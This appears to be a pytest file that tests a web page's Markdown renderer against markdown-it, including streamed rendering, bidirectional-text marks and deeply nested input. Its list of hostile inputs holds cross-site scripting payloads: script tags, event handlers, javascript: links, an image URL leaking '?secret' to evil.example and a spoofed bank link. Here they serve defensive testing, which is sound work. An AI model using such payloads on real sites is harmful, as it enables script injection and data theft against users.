"""How the page shows Markdown, beside markdown-it, and what hostile texts become."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from playwright.sync_api import Page
from support.browser import faults_of, page_of_files, running_browser

_RENDER = """async ([texts, step]) => {
  const { Markdown } = await import("/page/markdown.js");
  return texts.map((text) => {
    const element = document.createElement("div");
    const shown = new Markdown(element);
    for (let end = step; step && end < text.length; end += step) shown.update(text.slice(0, end));
    shown.update(text);
    return element.innerHTML;
  });
}"""

_DOCUMENTS = [
    "# One\n\nText *a* and **b**, ***both***, `code`, ~~gone~~.\n\n## Two ##\n### Three",
    "Title\n=====\ntext\n\nSub\n---\ntext\n\n---\n***",
    "- a\n- b\n  - c\n    - d\n- e\n\ntext\n\n* other\n+ third",
    "1. a\n2. b\n\n   behind\n3. c\n\n7) seven\n8) eight",
    "- loose\n\n- list\n\n  two\n- end",
    "- a\ngoes on\n- ```\n  code\n\n  more\n  ```\n- > quote",
    "> a\n> **b**\n> > c\n>\n> - d\n> - e\n\ntext",
    "```python\nif a < b:\n    print('*x*')\n```\ntext\n~~~~\n```\n~~~~\n\n    indented\n\n    code",
    "```\nnever ends\n\n- a",
    "|a|b|c|\n|:-|-:|:-:|\n|1|2|3|\n|x \\| y|`z`|**w**|\ntext|d|e\n\nafter",
    "a | b\n--|--\n1 | 2",
    "snake_case_name and 2*3*4 and __init__ and a * b * c and **un*balanced and _x_.",
    "**bold *and em* more** *em **and bold** more* ***a** b* ***a* b**",
    "``a ` b`` and ` `` ` and `un",
    "\\*no\\* \\# \\\\ \\a &",
    '[text](https://a.example/x) [t *em*](<https://a.example/b c> "title") ![image](https://a.example/i.png)',
    "<https://a.example/?a=1&b=2> and more",
    "[no](javascript:alert(1)) [no]( data:text/html,x ) <javascript:alert(1)> <b>no</b>",
    "line one  \nline two\\\nline three\nline four",
    "中文**强调**文字 *斜体*。\n\nعربي **غامق**",
    "",
    "\n\n  \n",
]
# The page takes longer runs of marks than three as text, so that no emphasis is nested without end.
_LONG_RUN = re.compile(r"[*_]{4,}|~{3,}")
_PARTS = ["*", "**", "_", "__", "~~", "`", "``", "a", "b c", " ", "  ", "(", ")", ".", "é", "1"]
_BLOCKS = ["# {}", "{}", "- {}\n- b", "1. {}\n2. b", "> {}", "```\n{}\n```", "a|b\n-|-\n{}|c", "***"]


def _made_up(seed: int) -> str:
    """A document of a few blocks, with marks in any order inside them."""
    chosen = random.Random(seed)
    lines = ["x" + "".join(chosen.choices(_PARTS, k=chosen.randint(0, 12))) + "y" for _ in range(4)]
    return "\n\n".join(chosen.choice(_BLOCKS).format(_LONG_RUN.sub("*", line)) for line in lines)


class _Shape(HTMLParser):
    """What a document says, without what the page adds to it: names of elements, texts, targets of links."""

    _UNSEEN = frozenset({"figcaption", "span", "figure", "div"})
    _SKIPPED = frozenset({"figcaption", "span"})

    def __init__(self, *, lowers_headings: bool) -> None:
        super().__init__()
        self.shape: list[str] = []
        self._lowers = lowers_headings
        self._skipping = 0
        self._is_code = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._skipping += tag in self._SKIPPED
        if self._skipping or tag in self._UNSEEN:
            return
        given = dict(attrs)
        self._is_code = self._is_code or tag == "pre"
        if tag == "br":
            self.handle_data("\n")
            return
        if tag == "img":  # the page names a picture, and does not load it
            self.shape += [f"<a {given['src']}>", given["alt"] or "", "</a>"]
            return
        about = given.get("href") or given.get("start") or ""
        if tag in ("td", "th"):
            about = given.get("class") or (given.get("style") or "text-align:left").partition(":")[2]
        self.shape.append(f"<{self._lowered(tag)} {about}>")
        if tag == "hr":
            self.shape.append("</hr>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if not self._skipping and tag not in self._UNSEEN:
            self._is_code = self._is_code and tag != "pre"
            self.shape.append(f"</{self._lowered(tag)}>")
        self._skipping -= tag in self._SKIPPED

    def handle_data(self, data: str) -> None:
        if self._skipping:
            return
        data = data if self._is_code else data.replace("\n", " ")
        if self.shape and not self.shape[-1].startswith("<"):
            self.shape[-1] += data
        elif data.strip():
            self.shape.append(data)

    def _lowered(self, tag: str) -> str:
        tag = "del" if tag == "s" else tag
        is_heading = self._lowers and len(tag) == 2 and tag[0] == "h" and tag[1].isdecimal()
        return f"h{min(int(tag[1]) + 1, 6)}" if is_heading else tag


def _shape(html: str, *, lowers_headings: bool = False) -> list[str]:
    parser = _Shape(lowers_headings=lowers_headings)
    parser.feed(html)
    parser.close()
    stripped = [part if part.startswith("<") else re.sub(" +", " ", part.strip()) for part in parser.shape]
    return [part for part in stripped if part]


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    with running_browser() as browser, page_of_files(browser) as page:
        yield page


def _rendered(page: Page, texts: list[str], *, step: int = 0) -> list[str]:
    made: list[str] = page.evaluate(_RENDER, [texts, step])
    return made


def test_documents_are_as_those_of_markdown_it(page: Page) -> None:
    reference = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    documents = [*_DOCUMENTS, *(_made_up(seed) for seed in range(300))]
    for text, html in zip(documents, _rendered(page, documents), strict=True):
        assert _shape(html) == _shape(reference.render(text), lowers_headings=True), text


@pytest.mark.parametrize("step", [1, 7])
def test_text_that_grows_becomes_what_it_is_at_once(page: Page, step: int) -> None:
    documents = [*_DOCUMENTS, *(_made_up(seed) for seed in range(300, 340)), "\n\n".join(_DOCUMENTS)]
    assert _rendered(page, documents, step=step) == _rendered(page, documents)


def test_addresses_in_text_are_links_and_end_with_the_sentence(page: Page) -> None:
    html = _rendered(page, ["(https://a.example/p_(q)), https://b.example/x?y=1&z=2. 见http://c.example/d。"])
    assert re.findall('href="([^"]*)"', html[0]) == [
        "https://a.example/p_(q)",
        "https://b.example/x?y=1&amp;z=2",
        "http://c.example/d",
    ]


def test_emphasis_ends_at_chinese_text(page: Page) -> None:
    assert "<strong>“强调”</strong>文字" in _rendered(page, ["是**“强调”**文字"])[0]


_TRICKS = [
    "<script>window.hit = 1</script><img src=x onerror='window.hit = 1'><svg onload=window.hit=1>",
    "[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](java\tscript:window.hit=1) [d](&#106;avascript:hit)",
    "[e](data:text/html,<script>hit</script>) [f](vbscript:hit) <javascript:window.hit=1> [g](//evil.example)",
    "[h](<javascript:window.hit=1>) [i](\u0001javascript:window.hit=1) [j](blob:hit) [k](file:///etc/passwd)",
    "![l](https://evil.example/?secret) ![m](javascript:window.hit=1) [![n](https://evil.example/n)](https://evil.example)",
    '[o](https://evil.example "" onmouseover=window.hit=1 x="") [p](https://evil.example/"onclick=window.hit=1)',
    "[https://bank.example](https://evil.example) [q](https://bank.example@evil.example/)",
    "```<img src=x onerror=window.hit=1>\n<script>window.hit=1</script>\n```",
    "|<img src=x onerror=window.hit=1>|\n|-|\n|<script>window.hit=1</script>|",
    "# <style>*{display:none}</style>\n> <iframe src=javascript:window.hit=1></iframe>",
]


_PLAIN_ELEMENTS = {"a", "blockquote", "code", "div", "figcaption", "figure", "h2", "p", "pre", "span", "table"} | {
    *("button", "svg", "use", "tbody", "td", "th", "thead", "tr")
}


def test_no_trick_of_a_model_makes_other_than_plain_elements(page: Page) -> None:
    faults = faults_of(page)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate(
        """async (texts) => {
          const { Markdown } = await import("/page/markdown.js");
          for (const text of texts) {
            const element = document.createElement("div");
            new Markdown(element).update(text);
            document.querySelector("#messages").append(element);
          }
        }""",
        _TRICKS,
    )
    assert page.evaluate("window.hit") is None
    assert not faults
    assert not [url for url in asked if not url.startswith(page.url)]
    html: list[str] = page.eval_on_selector_all("#messages > div", "made => made.map((each) => each.innerHTML)")
    assert len(html) == len(_TRICKS)
    opened = [tag for each in html for tag in re.findall(r"<(\w+)([^>]*)>", each)]
    assert {tag for tag, _ in opened} <= _PLAIN_ELEMENTS
    attributes = {name for _, given in opened for name in re.findall(r" ([\w-]+)=", given)}
    assert not [name for name in attributes if name.startswith("on") or name in ("style", "src", "srcdoc")]
    links = page.locator("#messages a")
    targets = links.evaluate_all("links => links.map((each) => [each.protocol, each.rel, each.target])")
    assert {*map(tuple, targets)} == {("https:", "noopener noreferrer nofollow", "_blank")}
    # A link whose text is another address tells where it leads.
    assert html[6].count('<span class="host"> (evil.example)</span>') == 2


def test_marks_of_direction_are_shown(page: Page) -> None:
    text = "a \u202eb `c\u2066d` \u2069\n\n```\nif admin\u202e:\n```"
    html = _rendered(page, [text])[0]
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", html)
    assert html.count("[U+202E]") == 2
    assert html.count("[U+2066]") == 1


_ENDLESS = {
    "quotes": "> " * 10_000 + "x",
    "quotes by line": "\n".join(">" * depth for depth in range(1, 1400)),
    "lists": "- " * 10_000 + "x",
    "lists by line": "\n".join("  " * depth + "- a" for depth in range(1000)),
    "numbers": "1. " * 10_000 + "x",
    "both": "> - " * 5_000,
    "emphasis": "*a **b " * 140_000,
    "marks": "*" * 1_000_000,
    "brackets": "[" * 1_000_000,
    "links": "[a](" * 250_000,
    "backquotes": "".join("`" * (1 + place % 400) + "a" for place in range(5000)),
    "columns": "|a" * 20_000 + "\n" + "|-" * 20_000 + "\n" + "|\n" * 1000,
    "fence": "`" * 200_000 + "\na",
    "text": "word " * 200_000,
    "one word": "a" * 1_000_000,
    "rules": "- " * 500_000,
    "code": "```js\n" + "x = 1;\n" * 140_000,
}


def test_endless_texts_stay_shallow_and_whole(page: Page) -> None:
    measured = page.evaluate(
        """async (texts) => {
          const { Markdown } = await import("/page/markdown.js");
          const depth = (element) => 1 + Math.max(0, ...[...element.children].map(depth));
          return texts.map((text) => {
            const element = document.createElement("div");
            new Markdown(element).update(text);
            document.body.append(element);
            const made = [depth(element), element.querySelectorAll("*").length, element.textContent];
            element.remove();
            return made;
          });
        }""",
        list(_ENDLESS.values()),
    )
    for (name, text), (depth, elements, shown) in zip(_ENDLESS.items(), measured, strict=True):
        assert depth <= 40, name
        assert elements <= 20_000, name
        # What is said is there to the last letter. Marks and numbers may have become elements.
        assert re.sub("[^a-z]", "", shown) == re.sub("[^a-z]", "", text), name
